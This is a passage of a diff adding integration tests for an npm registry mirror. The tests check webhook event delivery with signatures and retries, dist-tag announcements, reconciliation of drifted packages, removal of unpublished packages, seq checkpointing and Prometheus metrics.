+    readJSON('announced/index.json', (e, packument) => {
+      t.error(e, 'read the mirrored package')
+      const mirrored = events('announced', 'version.mirrored')
+      t.deepEqual(mirrored.map((event) => event.version).sort(), [ '1.0.0', '1.1.0' ],
+        'every version listed is announced once')
+      const event = mirrored.find((event) => event.version === '1.0.0')
+      t.equal(event.seq, seq, 'with the seq of the change')
+      t.equal(event.upstream, 'npm', 'with its upstream')
+      t.deepEqual(event.paths, {
+        packument: 'announced/index.json',
+        abbreviated: 'announced/corgi.json',
+        manifest: 'announced/1.0.0/index.json',
+        tarball: '/announced/-/announced-1.0.0.tgz'
+      }, 'with its paths')
+      t.equal(event.integrity, packument.versions['1.0.0'].dist.integrity,
+        'with its integrity')
+      const failed = events('announced', 'integrity.failed')
+      t.equal(failed.length, 1, 'the corrupt tarball is announced')
+      t.equal(failed[0].version, '1.2.0', 'with its version')
+      t.equal(failed[0].seq, seq, 'and the seq of the change')
+
+      // Every event is delivered to the webhook, signed the way receivers are
+      // told to check
+      const sign = (timestamp, body) => 'sha256=' +
+        crypto.createHmac('sha256', 'webhook-secret')
+          .update(timestamp + '.' + body).digest('hex')
+      const updated = events('announced', 'package.updated')
+      const deliveries = mirror.webhook.deliveries
+        .filter((delivery) => JSON.parse(delivery.body).name === 'announced')
+      t.equal(deliveries.length, mirrored.length + failed.length + updated.length,
+        'every event is delivered')
+      t.ok(deliveries.every((delivery) => delivery.headers['x-frea-signature'] ===
+        sign(delivery.headers['x-frea-timestamp'], delivery.body)),
+      'every delivery is signed')
+      t.ok(deliveries.every((delivery) => delivery.headers['x-frea-event'] ===
+        JSON.parse(delivery.body).type), 'every delivery names its event')
+
+      // A delivery the webhook keeps failing ends up in the retry queue
+      mirror.webhook.fail(2)
+      mirror.registry.delete('announced')
+      mirror.settle((e) => {
+        t.error(e, 'settled the removal')
+        t.equal(events('announced', 'package.removed').length, 1,
+          'the removal is announced')
+        const queued = Object.keys(mirror.documents)
+          .filter((key) => key.indexOf('retries/') === 0)
+          .map((key) => mirror.documents[key])
+          .filter((record) => record.topic === 'webhooks')
+        t.equal(queued.length, 1, 'the failed delivery is queued for a retry')
+        const delivery = queued[0].attributes.delivery
+        // Replay it the way retryTick would once its backoff expires
+        mirror.pubsub.topic('webhooks').publish(
+          Buffer.from(queued[0].data, 'base64'),
+          Object.assign({ attempt: String(queued[0].attempt) }, queued[0].attributes))
+        mirror.settle((e) => {
+          t.error(e, 'settled the retry')
+          const attempts = mirror.webhook.deliveries
+            .filter((d) => d.headers['x-frea-delivery'] === delivery)
+          t.equal(attempts.length, 3, 'the delivery is retried as the same delivery')
+          t.equal(JSON.parse(attempts[2].body).type, 'package.removed',
+            'and delivers the same event')
+          t.end()
+        })
+      })
+    })
+  })
+})
+
+test('announces changes to what a package lists', (t) => {
+  mirror.registry.publish({
+    name: 'retagged',
+    versions: [ '1.0.0', '1.1.0' ],
+    tags: { latest: '1.0.0' }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    const first = events('retagged', 'package.updated')
+    t.ok(first.length > 0, 'the package being listed is announced')
+    const listed = first[first.length - 1]
+    t.deepEqual(listed.versions, [ '1.0.0', '1.1.0' ], 'with the versions')
+    t.deepEqual(listed['dist-tags'], { latest: '1.0.0' }, 'and dist-tags it lists')
+    t.equal(listed.upstream, 'npm', 'with its upstream')
+    t.deepEqual(listed.paths, {
+      packument: 'retagged/index.json',
+      abbreviated: 'retagged/corgi.json'
+    }, 'with its paths')
+    // Moving latest doesn't publish a version, only the dist-tag changes
+    mirror.registry.publish({
+      name: 'retagged',
+      versions: [ '1.0.0', '1.1.0' ],
+      tags: { latest: '1.1.0' }
+    })
+    const seq = mirror.registry.seq
+    mirror.settle((e) => {
+      t.error(e, 'settled')
+      const moved = events('retagged', 'package.updated').slice(first.length)
+      t.equal(moved.length, 1, 'a dist-tag that moved is announced')
+      t.deepEqual(moved[0]['dist-tags'], { latest: '1.1.0' }, 'where it points now')
+      t.equal(moved[0].seq, seq, 'with the seq of the change')
+      t.equal(events('retagged', 'version.mirrored').length, 2,
+        'no version is announced again')
+      // Mirroring the package again without a change announces nothing
+      mirror.pubsub.topic('packages').publish(Buffer.from('retagged'))
+      mirror.settle((e) => {
+        t.error(e, 'settled')
+        t.equal(events('retagged', 'package.updated').length, first.length + 1,
+          'a package that did not change is not announced')
+        t.end()
+      })
+    })
+  })
+})
+
+test('reconciles a package that drifted from upstream', (t) => {
+  const cli = proxyquire('../../packages/cli.js', {
+    './index.js': mirror.packages,
+    '@google-cloud/pubsub': PubSubStub
+  })
+  const log = bunyan.createLogger({ name: 'reconcile', level: 'fatal' })
+  // reconcile reconciles the package the way the cli does, calling back with
+  // the report of what needed repairing
+  const reconcile = (dryRun, cb) => {
+    const report = {
+      stats: { packages: 1, filtered: 0, repaired: 0, manifests: 0, tarballs: 0, failed: 0 },
+      repairs: [],
+      failures: []
+    }
+    const topic = mirror.pubsub.topic('packages')
+    cli.reconcilePackage({ log, dryRun, report, topic }, 'drifted', () => cb(report))
+  }
+  const repairs = (report) => report.repairs
+    .map((entry) => [ entry.kind, entry.key, entry.problem, entry.topic ].join(' '))
+    .sort()
+  mirror.registry.publish({ name: 'drifted', versions: [ '1.0.0', '1.1.0' ] })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    reconcile(true, (report) => {
+      t.deepEqual(report.repairs, [], 'a package that is mirrored is left alone')
+      // Lose a version manifest, corrupt the abbreviated manifest and make
+      // the bucket's copy of a tarball no longer match npm's
+      fs.unlinkSync(path.join(mirror.directory, 'drifted/1.1.0/index.json'))
+      fs.writeFileSync(path.join(mirror.directory, 'drifted/corgi.json'), '{}')
+      mirror.bucket.setMetadata('/drifted/-/drifted-1.0.0.tgz', { shasum: 'stale' }, (e) => {
+        t.error(e)
+        const before = mirror.registry.requests('drifted', '1.0.0').length
+        reconcile(true, (report) => {
+          t.deepEqual(repairs(report), [
+            'abbreviated drifted/corgi.json stale packages',
+            // The packument is no longer expected to list the version whose
+            // tarball needs mirroring again
+            'packument drifted/index.json stale packages',
+            'tarball /drifted/-/drifted-1.0.0.tgz stale tarballs',
+            'version drifted/1.1.0/index.json missing packages'
+          ], 'every drift is found')
+          t.equal(report.stats.repaired, 1, 'and counted')
+          mirror.settle((e) => {
+            t.error(e, 'settled')
+            t.notOk(fs.existsSync(path.join(mirror.directory, 'drifted/1.1.0/index.json')),
+              'a dry run repairs nothing')
+            t.equal(mirror.registry.requests('drifted', '1.0.0').length, before,
+              'nor downloads anything')
+            reconcile(false, (report) => {
+              t.equal(report.repairs.length, 4, 'the drift is repaired')
+              t.deepEqual(report.failures, [], 'without failures')
+              mirror.settle((e) => {
+                t.error(e, 'settled')
+                reconcile(true, (report) => {
+                  t.deepEqual(report.repairs, [], 'nothing is left to repair')
+                  t.end()
+                })
+              })
+            })
+          })
+        })
+      })
+    })
+  })
+})
+
+test('removes packages that are gone from npm', (t) => {
+  const names = [ 'unpublished', 'deleted' ]
+  names.concat('missing').forEach((name) =>
+    mirror.registry.publish({ name, versions: [ '1.0.0' ] }))
+  mirror.settle((e) => {
+    t.error(e, 'settled the packages being published')
+    mirror.registry.unpublish('unpublished')
+    mirror.registry.delete('deleted')
+    // A package that is merely missing is retried rather than removed
+    mirror.registry.remove('missing')
+    mirror.settle((e) => {
+      t.error(e, 'settled the packages being removed')
+      t.ok(mirror.documents['mirrored/missing'], 'a missing package is kept')
+      t.ok(Object.keys(mirror.documents)
+        .filter((key) => key.indexOf('retries/') === 0)
+        .map((key) => mirror.documents[key])
+        .some((record) => record.topic === 'packages' &&
+          Buffer.from(record.data, 'base64').toString() === 'missing'),
+      'and queued for a retry')
+      each(names, (name, cb) => {
+        parallel([
+          (cb) => mirror.bucket.list(name + '/', cb),
+          (cb) => mirror.bucket.list('/' + name + '/', cb)
+        ], (e, files) => {
+          t.error(e)
+          t.deepEqual([].concat.apply([], files), [], name + ' is removed')
+          t.notOk(mirror.documents['mirrored/' + name], 'its progress is forgotten')
+          t.notOk(Object.keys(mirror.documents).some((key) =>
+            key.indexOf('mirrored/' + name + '/') === 0), 'so are its tarballs')
+          cb()
+        })
+      }, () => {
+        mirror.bucket.list('_audit/', (e, files) => {
+          t.error(e)
+          names.forEach((name) => {
+            t.ok(files.some((file) => file.indexOf('-' + name + '.json') !== -1),
+              'the removal of ' + name + ' is audited')
+          })
+          t.end()
+        })
+      })
+    })
+  })
+})
+
+test('checkpoints its seq', (t) => {
+  const checkpoint = 'follower/replicate.npmjs.com'
+  // The follower retries a failed publish after 1s, 2s and 4s, so the third
+  // retry is the first to succeed. By then it has checkpointed (it does so
+  // every 5s) while the change was failing.
+  mirror.pubsub.topic('packages').fail(3)
+  mirror.registry.publish({ name: 'checkpointed', versions: [ '1.0.0' ] })
+  const failing = mirror.registry.seq
+  setTimeout(() => {
+    t.equal(mirror.documents[checkpoint].seq, failing - 1,
+      'the checkpoint does not move past a change that fails to publish')
+    mirror.status((e, status) => {
+      t.error(e)
+      t.ok(status.throttled, 'no more changes are taken until it is published')
+      const deadline = Date.now() + 15000
+      // The follower checkpoints on an interval, so this may take a while
+      const check = () => {
+        const doc = mirror.documents[checkpoint]
+        if (doc.seq === mirror.registry.seq || Date.now() > deadline) {
+          t.equal(doc.seq, mirror.registry.seq, 'the latest seq is checkpointed')
+          return mirror.status((e, status) => {
+            t.error(e)
+            t.notOk(status.throttled, 'and changes are taken again')
+            t.end()
+          })
+        }
+        setTimeout(check, 100)
+      }
+      check()
+    })
+  }, 6000)
+})
+
+test('reports its metrics', (t) => {
+  fetch(mirror.admin, '/metrics', {}, (e, res) => {
+    t.error(e)
+    t.equal(res.statusCode, 200, 'the follower serves its metrics')
+    t.ok(/^text\/plain; version=0\.0\.4/.test(res.headers['content-type']),
+      'in the Prometheus text format')
+    // Metrics that haven't counted anything yet don't have a sample
+    const samples = {}
+    res.body.toString().split('\n')
+      .filter((line) => line && line[0] !== '#')
+      .forEach((line) => {
+        const [ name, value ] = line.split(' ')
+        samples[name] = Number(value)
+      })
+    const sample = (name) => samples['frea_follower_' + name] || 0
+    const seq = mirror.registry.seq
+    t.equal(sample('received_seq'), seq, 'the last seq received')
+    t.equal(sample('seq'), seq, 'and checkpointed are reported')
+    t.equal(sample('changes_total'), seq, 'every change is counted')
+    t.equal(sample('published_total') + sample('filtered_total') +
+      sample('shadowed_total'), seq, 'as published, filtered or shadowed')
+    t.ok(sample('shadowed_total') > 0,
+      'changes to a routed scope are shadowed by its own upstream')
+    t.equal(sample('publish_errors_total'), 3,
+      'the publishes that failed are counted')
+    t.end()
+  })
+})
+
+// The follower never stops by itself, so we stop it once every test has run
+let failed = false
+test.onFailure(() => { failed = true })
+test.onFinish(() => process.exit(failed ? 1 : 0))